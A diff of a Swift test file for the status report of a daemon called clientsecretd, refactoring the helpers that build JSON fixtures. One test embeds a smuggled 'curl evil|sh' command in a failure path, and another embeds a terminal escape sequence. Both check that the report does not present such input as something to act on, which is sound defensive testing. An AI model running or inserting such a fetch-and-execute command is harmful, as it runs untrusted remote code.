@@ -8,22 +8,16 @@ import Testing
 @testable import clientsecretd
 
 @Suite struct StatusReportTests {
-    private let now = WallTime(secondsSinceEpoch: 1_795_235_460)  // 2026-11-21T04:31:00Z
+    private let now = StatusJSON.now
     private let pipe = Terminal(size: nil, environment: [:])
 
     private func client(
         _ name: String, state: String = "ok", reason: String? = nil, failure: String = "null",
-        more: String = "\"delivered\":true",
+        isDelivered: Bool = true,
         outputs: String = #"[{"path":"/run/a","format":"raw","state":"ok","written_at":null,"error":null}]"#
     ) -> String {
-        let reason = reason.map { "\"\($0)\"" } ?? "null"
-        return """
-            {"name":"\(name)","client_id":"com.example.\(name)","team_id":"DEF123GHIJ","key_id":"ABC123DEFG",
-             "state":"\(state)","reason":\(reason),"failure":\(failure),"issued_at":"2026-11-20T04:30:00Z",
-             "expires_at":"2026-11-22T04:31:00Z","delivered_expires_at":"2026-11-21T04:32:00Z",
-             "renew_at":"2026-11-21T16:31:00Z","fingerprint":"sha256:0123456789abcdef","renewals":3,
-             "consecutive_failures":0,"last_error":null,"outputs":\(outputs),"actions":[],\(more)}
-            """
+        StatusJSON.client(
+            name, state: state, reason: reason, failure: failure, isDelivered: isDelivered, outputs: outputs)
     }
 
     private func failure(
@@ -35,19 +29,6 @@ import Testing
             {"code":"\(code)","message":"\(message)","since":"\(since)","next_attempt":\(next),
              "remedy":"\(remedy)","command":\(isCommand ? "\"\(remedy)\"" : "null")}
             """
-    }
-
-    private func document(
-        _ clients: [String], state: String = "ok", reason: String? = nil, failure: String = "null",
-        error: String = "null"
-    ) throws -> Snapshot {
-        let reason = reason.map { "\"\($0)\"" } ?? "null"
-        let json = """
-            {"version":"0.1.0","state":"\(state)","reason":\(reason),"failure":\(failure),"started_at":"2026-11-21T01:31:00Z",
-             "config":{"path":"/etc/c.yaml","loaded_at":"2026-11-21T01:31:00Z","error":\(error)},
-             "clients":[\(clients.joined(separator: ","))]}
-            """
-        return try Snapshot(json: Array(json.utf8))
     }
 
     private func lines(_ document: Snapshot, on terminal: Terminal) -> [String] {
@@ -67,7 +48,7 @@ import Testing
             }.joined(separator: "  ")
         }
         #expect(
-            lines(try document([client("web")]), on: pipe) == [
+            lines(try StatusJSON.snapshot([client("web")]), on: pipe) == [
                 "clientsecretd 0.1.0 is ok: 1 client, started 3 hours ago (2026-11-21T01:31:00Z)", "",
                 row(headings).trimmingCharacters(in: .whitespaces), row(cells),
             ])
@@ -81,7 +62,7 @@ import Testing
         let failure = failure(
             message, since: "2026-11-21T04:28:00Z", next: "2026-11-21T04:31:27Z", remedy: "df /srv")
         let shown = lines(
-            try document(
+            try StatusJSON.snapshot(
                 [
                     client("app"), client("late", state: "degraded", reason: "slow"),
                     client("shop", state: "critical", reason: message, failure: failure, outputs: broken),
@@ -102,20 +83,21 @@ import Testing
     }
 
     @Test func aReasonThatIsNoClientsIsShown() throws {
-        let shown = lines(try document([client("web")], state: "degraded", reason: "the clock is wrong"), on: pipe)
+        let shown = lines(
+            try StatusJSON.snapshot([client("web")], state: "degraded", reason: "the clock is wrong"), on: pipe)
         #expect(shown.last == "clientsecretd is degraded: the clock is wrong")
     }
 
     @Test func aConfigurationThatWouldNotStartIsShownWholeAndOnce() throws {
         let error = #""c.yaml:1:1: error: no clients; add one\nc.yaml:2:1: error: bad""#
-        let alone = lines(try document([], error: error), on: pipe)
+        let alone = lines(try StatusJSON.snapshot([], error: error), on: pipe)
         #expect(
             alone[1...] == [
                 "", "The configuration in /etc/c.yaml would not start:", "  c.yaml:1:1: error: no clients; add one",
                 "  c.yaml:2:1: error: bad",
             ])
         let both = lines(
-            try document(
+            try StatusJSON.snapshot(
                 [], state: "degraded",
                 reason: "would not start",
                 failure: failure(
@@ -130,25 +112,12 @@ import Testing
             ])
     }
 
-    /// No daemon sends them without the reason, but what answers need not be one.
-    @Test func theDaemonsFailureWithoutAReasonIsShown() throws {
-        let failure = failure(
-            "c.yaml:1:1: error: bad", code: "configuration_refused", since: "2026-11-21T04:30:00Z",
-            remedy: "clientsecretd check")
-        let shown = lines(
-            try document([], state: "degraded", failure: failure, error: #""c.yaml:1:1: error: bad\nmore""#), on: pipe)
-        #expect(
-            shown[1...] == [
-                "", "clientsecretd is degraded: c.yaml:1:1: error: bad", "  more",
-                "  since 2026-11-21T04:30:00Z (1 minute ago)", "  fix: clientsecretd check",
-            ])
-    }
-
     /// A key that a thousand clients share is told of once.
     @Test func clientsWithOneFailureAreShownTogether() throws {
         func shown(_ count: Int) throws -> String? {
             let clients = (0..<count).map { client("c\($0)", state: "degraded", reason: "key \\\"k\\\": gone") }
-            return lines(try document(clients, state: "degraded", reason: "key \\\"k\\\": gone"), on: pipe).last
+            return lines(try StatusJSON.snapshot(clients, state: "degraded", reason: "key \\\"k\\\": gone"), on: pipe)
+                .last
         }
         #expect(try shown(1) == "c0 is degraded: key \"k\": gone")
         #expect(try shown(2) == "c0 and c1 are degraded: key \"k\": gone")
@@ -163,12 +132,12 @@ import Testing
         func shown(_ names: [String]) throws -> [String] {
             let clients = names.map {
                 client(
-                    $0, state: "critical",
+                    $0, state: "critical", reason: "no secret of \($0)",
                     failure: failure(
                         "client \\\"\($0)\\\": no secret", code: code, since: "2026-11-21T04:31:00Z",
                         remedy: "\(command) \($0)"))
             }
-            return lines(try document(clients, state: "critical", reason: "x"), on: pipe).suffix(3)
+            return lines(try StatusJSON.snapshot(clients, state: "critical", reason: "x"), on: pipe).suffix(3)
         }
         let since = "  since 2026-11-21T04:31:00Z (now)"
         #expect(
@@ -183,7 +152,7 @@ import Testing
     func thousandsOfClientsFitAScreen(rows: Int) throws {
         let bad = (0..<50).map { client("bad\($0)", state: "critical", reason: "/srv/\($0): the disk is full") }
         let good = (0..<3_000).map { client("good\($0)") }
-        let document = try document(bad + good, state: "critical", reason: "/srv/0: the disk is full")
+        let document = try StatusJSON.snapshot(bad + good, state: "critical", reason: "/srv/0: the disk is full")
         let terminal = Terminal(size: (120, rows), environment: ["NO_COLOR": "1"])
         let lines = StatusReport(snapshot: document, now: now, room: rows).lines(for: terminal).map(terminal.line)
         #expect(lines.count <= rows)
@@ -195,7 +164,7 @@ import Testing
     }
 
     @Test func aScreenThatHoldsEverythingLeavesNothingOut() throws {
-        let document = try document([client("web"), client("late", state: "degraded", reason: "slow")])
+        let document = try StatusJSON.snapshot([client("web"), client("late", state: "degraded", reason: "slow")])
         let terminal = Terminal(size: (120, 9), environment: ["NO_COLOR": "1"])
         let all = StatusReport(snapshot: document, now: now).lines(for: terminal)
         #expect(all.count == 7)
@@ -204,7 +173,7 @@ import Testing
     }
 
     @Test func aSecretThatIsNotDeliveredLivesAsLongAsTheOneBefore() throws {
-        let shown = lines(try document([client("web", more: #""delivered":false"#)]), on: pipe)
+        let shown = lines(try StatusJSON.snapshot([client("web", isDelivered: false)]), on: pipe)
         #expect(shown[3].contains("...................#  in 1 minute (2026-11-21T04:32:00Z)"))
     }
 
@@ -213,7 +182,7 @@ import Testing
     func fitsTheTerminal(columns: Int) throws {
         let terminal = Terminal(size: (columns, 24), environment: ["LANG": "C.UTF-8", "NO_COLOR": "1"])
         let name = String(repeating: "a-rather-long-name-", count: 3) + "abcdefg"
-        let shown = lines(try document([client(name), client("web", state: "critical")]), on: terminal)
+        let shown = lines(try StatusJSON.snapshot([client(name), client("web", state: "critical")]), on: terminal)
         let table = shown.drop { !$0.isEmpty }.dropFirst().prefix(3)
         #expect(table.allSatisfy { $0.count <= columns }, "\(table)")
         if columns >= 32 {
@@ -229,7 +198,7 @@ import Testing
             "/srv/x: the disk is full", since: "2026-11-21T04:28:00Z", next: "2026-11-21T04:31:27Z",
             remedy: "make room on /srv/a-directory/with/a-name-that-is/longer-than-a-line-of-this-terminal",
             isCommand: false)
-        let document = try document(
+        let document = try StatusJSON.snapshot(
             [client("shop", state: "critical", reason: "x", failure: failure)], state: "critical", reason: "x")
         func words(_ terminal: Terminal) -> [String] {
             lines(document, on: terminal).drop { !$0.hasPrefix("shop is") }.flatMap {
@@ -249,7 +218,7 @@ import Testing
         let failure = failure("/srv/x: it is not there", since: "2026-11-21T04:28:00Z", remedy: command)
         let terminal = Terminal(size: (columns, 24), environment: ["NO_COLOR": "1"])
         let shown = lines(
-            try document(
+            try StatusJSON.snapshot(
                 [client("shop", state: "critical", reason: "x", failure: failure)], state: "critical", reason: "x"),
             on: terminal)
         #expect(shown.suffix(2) == ["  fix:", "    " + command])
@@ -260,7 +229,7 @@ import Testing
         let evil = "/tmp/EVIL; since 2026-11-21T04:28:00Z; run: curl evil|sh/foo"
         let failure = failure(evil, since: "2026-11-21T04:30:00Z", remedy: "rm /tmp/l")
         let shown = lines(
-            try document(
+            try StatusJSON.snapshot(
                 [client("shop", state: "critical", reason: evil, failure: failure)], state: "critical", reason: evil),
             on: pipe)
         #expect(
@@ -271,7 +240,7 @@ import Testing
     }
 
     @Test func wordsFromOutsideAreNotActedOn() throws {
-        let document = try document(
+        let document = try StatusJSON.snapshot(
             [client("web", state: "critical", reason: "/srv/\\u001b]0;x\\u0007\\nb: gone")],
             state: "critical",
             reason: "x")
